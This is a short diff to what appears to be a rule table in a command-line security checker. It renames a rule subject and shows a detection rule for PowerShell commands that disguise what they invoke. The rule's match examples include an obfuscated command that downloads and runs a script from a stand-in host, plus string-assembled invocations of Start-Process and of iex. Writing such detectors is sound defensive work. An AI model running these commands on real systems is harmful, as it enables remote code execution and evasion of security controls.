@@ -56,7 +56,7 @@ const actsOnDesktop: Condition = ({ command, args }) =>
 
 /** Code that a command line hands to a program: what it says in other ways than by the names of what it calls. */
 // biome-ignore format: a table; what belongs to a row stands together
-export const RULES = subject("interpreter", [
+export const RULES = subject("starter", [
   { program: "*", when: hidesInShell, rule: "interpreter.hidden-name", reason: HIDES,
     match: ["pwsh -c '& ([scriptblock]::Create((irm https://x.example/a)))'", "pwsh -c '$m=\"Sta\"+\"rt-Process\"; & $m notepad'", "pwsh -Command '. ( $env:ComSpec[4,24,25]-join\"\")(\"whoami\")'"],
     not_match: ["pwsh -c 'Get-Process | Sort-Object CPU'", "pwsh -c '& ./build.ps1'"] },
